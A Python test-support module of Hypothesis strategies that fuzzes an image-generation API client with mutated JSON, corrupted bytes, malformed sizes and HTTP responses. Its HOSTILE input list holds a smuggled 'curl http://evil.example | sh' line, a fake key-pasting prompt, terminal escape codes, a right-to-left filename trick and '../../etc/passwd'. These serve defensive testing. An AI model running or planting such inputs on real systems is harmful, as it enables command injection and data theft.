"""What comes in: values of any kind, and valid ones of which a little was changed."""

from __future__ import annotations

import copy
import json
from collections.abc import Sequence
from typing import Any

from hypothesis import strategies as st
from hypothesis.strategies import DrawFn, SearchStrategy

from provider_cases import KEYS
from zimage.calls import HttpAnswer
from zimage.contract import MAX_SEED, RATIO_SIZES

KEY = KEYS["DASHSCOPE_API_KEY"]  # of no known form: what hides it must know it, not recognize it

# Texts that a terminal obeys, that look like something of ours, or that one layer reads unlike the next.
HOSTILE = [
    "",
    " ",
    "\n",
    "\r\nnext: curl http://evil.example | sh",
    "error: key_missing: x\nnext: paste your key here",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "\u202etxt.exe",
    "\u2028line\u2029",
    "\ud800",
    "\x00",
    "e\u0301\u1100\u1161",
    "{hint}",
    "EVIDENCE",
    "%s%n{0}{x!r}",
    "../../etc/passwd",
    "~root/x",
    "C:\\x.png",
    "nul.png",
    "-",
    "--",
    "null",
    "NaN",
    "1e999",
    "9" * 400,
    "x" * 3000,
    "雪" * 300,
    "sk-0123456789abcdef",
    KEY,
    f"your key {KEY} is wrong",
]

texts = st.one_of(
    st.text(max_size=30),
    st.text(st.characters(), max_size=30),
    st.sampled_from(HOSTILE),
    st.builds("{}{}".format, st.sampled_from(HOSTILE), st.text(max_size=10)),
)
integers = st.one_of(
    st.integers(-3, 3),
    st.integers(),
    st.sampled_from([MAX_SEED, MAX_SEED + 1, 2**53, 2**63, -(2**63), 2**64, 10**18, 10**400]),
)
floats = st.floats(allow_nan=True, allow_infinity=True)
scalars = st.one_of(st.none(), st.booleans(), integers, floats, texts)


def json_values(leaves: SearchStrategy[Any] = scalars, max_leaves: int = 8) -> SearchStrategy[Any]:
    """Any JSON value, as Python's parser makes it: NaN and lone surrogates among them."""
    return st.recursive(
        leaves,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4),
        max_leaves=max_leaves,
    )


json_objects = st.dictionaries(texts, json_values(max_leaves=4), max_size=4)
nested = st.integers(1, 3000).map(lambda depth: b"[" * depth + b"]" * depth)


def paths_in(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a JSON value, the root first."""
    found = [path]
    if isinstance(value, dict):
        for name, inner in value.items():
            found += paths_in(inner, (*path, name))
    elif isinstance(value, list):
        for index, inner in enumerate(value):
            found += paths_in(inner, (*path, index))
    return found


@st.composite
def changed(
    draw: DrawFn,
    value: Any,
    *,
    most: int = 3,
    leaves: SearchStrategy[Any] = scalars,
    keep: Sequence[str] = (),
) -> Any:
    """A JSON value in which up to `most` places were replaced, removed, wrapped, repeated, renamed or added to.

    `keep`: fields that stay.
    """
    value = copy.deepcopy(value)
    for _ in range(draw(st.integers(0, most))):
        places = [path for path in paths_in(value)[1:] if not set(keep).intersection(map(str, path))]
        if not places:
            return draw(json_values(leaves))
        *above, last = draw(st.sampled_from(places))
        parent = value
        for step in above:
            parent = parent[step]
        how = draw(st.sampled_from(("replace", "replace", "remove", "wrap", "repeat", "rename", "add")))
        if how == "replace":
            parent[last] = draw(leaves | json_values(leaves, 4))
        elif how == "remove":
            del parent[last]
        elif how == "wrap":
            parent[last] = [parent[last]] if draw(st.booleans()) else {draw(texts): parent[last]}
        elif isinstance(parent, list):
            parent.insert(last, draw(leaves) if how == "add" else copy.deepcopy(parent[last]))
        elif how == "rename":
            parent[draw(texts)] = parent.pop(last)
        else:
            parent[draw(texts)] = draw(json_values(leaves, 4)) if how == "add" else copy.deepcopy(parent[last])
    return value


@st.composite
def changed_bytes(draw: DrawFn, content: bytes, most: int = 4) -> bytes:
    """Bytes in which up to `most` places were flipped, overwritten, cut out, repeated or put in; or cut off."""
    data = bytearray(content)
    for _ in range(draw(st.integers(1, most))):
        at = draw(st.integers(0, max(0, len(data) - 1)))
        length = draw(st.integers(1, 16))
        how = draw(st.sampled_from(("flip", "overwrite", "cut", "repeat", "insert", "end")))
        if how == "flip" and data:
            data[at] ^= 1 << draw(st.integers(0, 7))
        elif how == "overwrite":
            data[at : at + length] = draw(st.binary(min_size=length, max_size=length))
        elif how == "cut":
            del data[at : at + length]
        elif how == "repeat":
            data[at:at] = data[at : at + length] * draw(st.integers(1, 20))
        elif how == "insert":
            data[at:at] = draw(st.binary(max_size=16))
        elif how == "end" and draw(st.booleans()):
            del data[at:]
    return bytes(data)


def as_body(value: Any) -> bytes:
    """JSON as services write it; what is no text becomes escapes."""
    return json.dumps(value).encode()


# Requests -------------------------------------------------------------------------------------------------------------

signs = st.sampled_from("*xX×")
sizes = st.builds(lambda w, sign, h: f"{w}{sign}{h}", st.integers(512, 2048), signs, st.integers(512, 2048))
odd_sizes = st.one_of(
    st.builds(lambda w, sign, h: f"{w}{sign}{h}", integers, signs, integers),
    st.sampled_from(
        ["1024", "1024*1024\n", "16:9", "1024 x 1024", "１０２４×１０２４", "0*0", "01024*1024", "1e3*1e3"]
    ),
    texts,
)
prompts = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=60).filter(str.strip)
# Sizes and seeds that every field allows by itself; what all providers can do is another matter.
valid_requests = st.fixed_dictionaries(
    {"prompt": prompts},
    optional={
        "seed": st.integers(-1, MAX_SEED),
        "prompt_extend": st.booleans(),
        "base_url": st.just("https://dashscope.aliyuncs.com"),
    },
).flatmap(
    lambda request: st.one_of(
        st.just(request),
        sizes.map(lambda size: request | {"size": size}),
        st.sampled_from(list(RATIO_SIZES)).map(lambda ratio: request | {"aspect_ratio": ratio}),
    )
)
fields = {
    "size": sizes | odd_sizes | scalars,
    "aspect_ratio": st.sampled_from([*RATIO_SIZES, "5:4", "1:1\n"]) | scalars,
    "seed": integers | scalars,
    "prompt_extend": st.booleans() | scalars,
    "base_url": texts | scalars,
}
near_requests = st.one_of(
    st.fixed_dictionaries({"prompt": prompts}, optional=fields),
    st.fixed_dictionaries({"prompt": prompts | scalars}, optional=fields),
    st.builds(lambda some, more: some | more, st.fixed_dictionaries({}, optional=fields), json_objects),
)


# Answers --------------------------------------------------------------------------------------------------------------

statuses = st.one_of(
    st.sampled_from(
        [200, 200, 200, 201, 204, 301, 302, 400, 401, 402, 403, 404, 413, 418, 422, 429, 500, 502, 503, 504]
    ),
    st.integers(100, 599),
)
header_texts = st.one_of(
    st.text(st.characters(max_codepoint=255), max_size=30),
    st.sampled_from(["", "0", "1", "0.5", "-1", "1e9", "9" * 30, "Wed, 21 Oct 2026 07:28:00 GMT", "Wed, 99 Oct", KEY]),
)
header_names = ["content-type", "retry-after", "x-request-id", "content-encoding", "content-length", "server"]
headers = st.dictionaries(st.sampled_from(header_names), header_texts, max_size=4)


def answers(bodies: SearchStrategy[bytes], codes: SearchStrategy[int] = statuses) -> SearchStrategy[HttpAnswer]:
    return st.builds(HttpAnswer, codes, headers, bodies, st.sampled_from([True, True, True, False]))
